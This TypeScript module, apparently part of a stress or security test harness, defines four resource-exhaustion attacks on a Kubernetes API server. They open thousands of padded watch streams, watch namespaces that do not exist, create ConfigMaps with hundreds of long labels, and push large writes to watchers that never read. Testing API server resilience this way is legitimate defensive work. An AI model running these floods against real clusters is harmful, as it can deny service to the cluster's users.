// Attacks by watches, and by writes that are followed.
import type { ClientHttp2Session } from 'node:http2';
import { pause, repeat, textOf } from './attacker.ts';
import type { Attack, Attacker } from './attacker.ts';

/** Opens watches as streams of a few connections; resolves when each has its head or its end. */
async function openWatches(
  attacker: Attacker,
  count: number,
  path: (index: number) => string,
): Promise<readonly (ClientHttp2Session | undefined)[]> {
  const perSession = 200;
  const sessions = await Promise.all(
    Array.from({ length: Math.ceil(count / perSession) }, () => attacker.http2()),
  );
  await repeat(
    count,
    async (index) => {
      const session = sessions[index % sessions.length];
      if (session === undefined || session.destroyed) return;
      const stream = session.request({
        ':path': path(index),
        authorization: `Bearer ${attacker.victim.token}`,
      });
      stream.on('error', () => undefined).resume();
      await new Promise((resolve) => stream.once('response', resolve).once('close', resolve));
    },
    100,
  );
  return sessions;
}

const watchFlood: Attack = {
  name: 'watches',
  async run(attacker, round) {
    const sessions = await openWatches(attacker, 1_500, (index) => {
      const mark = textOf(30, round, index);
      const queries = [
        `fieldSelector=spec.nodeName=${mark}`,
        `fieldSelector=metadata.name=${mark}`,
        `fieldSelector=status.phase=${mark}`,
        `labelSelector=app=${mark}`,
        'sendInitialEvents=false&resourceVersionMatch=NotOlderThan',
        `limit=1&resourceVersion=0`,
      ];
      const query = queries[index % queries.length] ?? '';
      return `/api/v1/pods?watch=1&${query}&pad=${textOf(200, round, index)}`;
    });
    for (const session of sessions) session?.destroy();
  },
};

const namespaceWatches: Attack = {
  name: 'watches of namespaces that are none',
  async run(attacker, round) {
    const query = `watch=1&pad=${'x'.repeat(5_000)}`;
    const sessions = await openWatches(attacker, 1_000, (index) => {
      return `/api/v1/namespaces/${textOf(50, 'n', round, index)}/configmaps?${query}`;
    });
    for (const session of sessions) session?.destroy();
  },
};

/** Objects with many labels, found by one of them, and deleted again. */
const labelled: Attack = {
  name: 'labels',
  async run(attacker, round) {
    const path = '/api/v1/namespaces/default/configmaps';
    const headers = { 'content-type': 'application/json' };
    await repeat(20, (index) => {
      const labels = Object.fromEntries(
        Array.from({ length: 300 }, (_, at) => [
          textOf(40, 'l', at),
          textOf(60, 'v', round, index, at),
        ]),
      );
      const metadata = { name: textOf(30, 'labelled', round, index), labels };
      const body = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata });
      return attacker.send({ method: 'POST', path, headers, body });
    });
    await attacker.send({ path: `${path}?labelSelector=l-0` });
    await repeat(20, (index) =>
      attacker.send({ method: 'DELETE', path: `${path}/${textOf(30, 'labelled', round, index)}` }),
    );
  },
};

/** Events to watchers that do not read. */
const followedWrites: Attack = {
  name: 'writes to watchers that wait',
  async run(attacker, round) {
    const path = '/api/v1/namespaces/default/configmaps';
    const headers = { 'content-type': 'application/json' };
    const sockets = await Promise.all(Array.from({ length: 30 }, () => attacker.tls()));
    for (const socket of sockets) socket?.pause().write(attacker.head(`GET ${path}?watch=1`));
    await pause(100);
    await repeat(30, async (index) => {
      const metadata = { name: textOf(30, 'followed', round, index) };
      const data = { key: textOf(20_000, round, index) };
      const body = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata, data });
      await attacker.send({ method: 'POST', path, headers, body });
      await attacker.send({ method: 'DELETE', path: `${path}/${metadata.name}` });
    });
    for (const socket of sockets) socket?.destroy();
  },
};

export const watches: readonly Attack[] = [watchFlood, namespaceWatches, labelled, followedWrites];
